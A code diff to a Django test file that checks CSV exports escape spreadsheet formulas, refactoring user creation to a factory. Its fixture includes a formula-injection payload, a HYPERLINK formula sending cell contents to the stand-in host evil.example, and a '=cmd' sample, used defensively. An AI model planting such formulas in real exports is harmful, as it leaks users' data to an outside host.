@@ -13,12 +13,11 @@ from datetime import timedelta
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group
 from django.test import Client
 from django.utils import timezone
 
 from core.csv_export import neutralise, write_csv
+from tests.factories import UserFactory
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
@@ -39,18 +38,12 @@ def test_none_is_an_empty_cell_and_the_header_goes_through_the_same_rule():
     assert rows == [["'=cmd", "n"], ["", "-4"], ["'" + HYPERLINK, "7.5"]]
 
 
-def _user(name: str, group: str):
-    user = get_user_model().objects.create_user(username=name, password="x-pass-word-9")
-    user.groups.add(Group.objects.get_or_create(name=group)[0])
-    return user
-
-
 @pytest.mark.django_db
 def test_the_coach_dashboard_export_neutralises_a_set_title_and_a_username():
     from coaching import services
     from coaching.models import QuestionSet
 
-    coach, candidate = _user("carol", "coach"), _user("+1-2", "candidate")
+    coach, candidate = UserFactory(username="carol", role="coach"), UserFactory(username="+1-2", role="candidate")
     cohort = services.create_cohort(coach, "Spring")
     services.accept_invitation(services.invite(cohort), candidate)
     question_set = QuestionSet.objects.create(coach=coach, title=HYPERLINK)
@@ -72,7 +65,7 @@ def test_the_review_history_export_neutralises_an_answer():
     from drills.models import BankItem, Card, ReviewLog
     from drills.reviews.exports import history_csv
 
-    candidate = _user("alice", "candidate")
+    candidate = UserFactory(username="alice", role="candidate")
     item = BankItem.objects.create(slug="q1", prompt="Why?", model_answer="Because.", rubric=["a"])
     now = timezone.now()
     card = Card.objects.create(user=candidate, item=item, due=now)
